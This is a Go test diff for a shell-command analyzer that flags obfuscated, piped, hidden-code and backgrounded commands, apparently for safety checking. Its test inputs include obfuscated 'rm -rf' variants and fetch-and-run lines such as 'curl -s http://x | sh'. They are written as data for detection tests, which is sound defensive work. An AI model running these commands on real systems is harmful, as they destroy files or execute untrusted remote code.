@@ -151,6 +151,49 @@ func TestCaps(t *testing.T) {
 
 func quote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }
 
+// TestFlags checks the per-command flags rules rely on.
+func TestFlags(t *testing.T) {
+	find := func(a Analysis, name string) *Cmd {
+		for i := range a.Cmds {
+			if a.Cmds[i].Name == name {
+				return &a.Cmds[i]
+			}
+		}
+		t.Fatalf("no %s in %s", name, summary(a))
+		return nil
+	}
+	cases := []struct {
+		in, name string
+		check    func(c *Cmd) bool
+		what     string
+	}{
+		{"r''m -rf x", "rm", func(c *Cmd) bool { return c.Obfuscated }, "obfuscated"},
+		{"\\rm -rf x", "rm", func(c *Cmd) bool { return !c.Obfuscated }, "not obfuscated"},
+		{`"$(which rm)" x`, "rm", func(c *Cmd) bool { return !c.Obfuscated }, "not obfuscated"},
+		{"A=r; B=m; $A$B x", "rm", func(c *Cmd) bool { return c.Obfuscated }, "obfuscated"},
+		{"curl -s http://x | sh", "sh", func(c *Cmd) bool { return c.HiddenCode && c.FedCode }, "hidden fed code"},
+		{"echo ls | sh", "sh", func(c *Cmd) bool { return c.FedCode && !c.HiddenCode }, "visible fed code"},
+		{"curl -o i.sh http://x; sh i.sh", "sh", func(c *Cmd) bool { return c.HiddenCode }, "hidden script"},
+		{"env -C /tmp ls", "ls", func(c *Cmd) bool { return c.Dir == "/tmp" }, "Dir /tmp"},
+		{"sudo -D /srv ls", "ls", func(c *Cmd) bool { return c.Dir == "/srv" }, "Dir /srv"},
+		{"f(){ :; }; f", "f", func(c *Cmd) bool { return c.Func }, "function call"},
+		{"sleep 1 &", "sleep", func(c *Cmd) bool { return c.Background }, "background"},
+		{"ls | grep x | wc -l", "grep", func(c *Cmd) bool {
+			return strings.Join(c.PipedFrom, ",") == "ls" && strings.Join(c.PipedTo, ",") == "wc"
+		}, "piped from ls to wc"},
+		{"Start-Process cmd -ArgumentList '/c dir'", "dir", func(c *Cmd) bool { return c.Depth == 1 }, "dir inside cmd /c"},
+		{"echo 'print(1)' | python3", "python3", func(c *Cmd) bool {
+			return c.FedCode && len(c.Redirs) == 1 && c.Redirs[0].Op == "<<<" && c.Redirs[0].Target == "print(1)"
+		}, "code as a here-string"},
+	}
+	for _, c := range cases {
+		a := Analyze(c.in)
+		if cmd := find(a, c.name); !c.check(cmd) {
+			t.Errorf("%q: %s is not %s: %+v", c.in, c.name, c.what, *cmd)
+		}
+	}
+}
+
 func TestBraces(t *testing.T) {
 	for in, want := range map[string]string{
 		"rm -rf {/,}":          "rm[-rf,/,]",
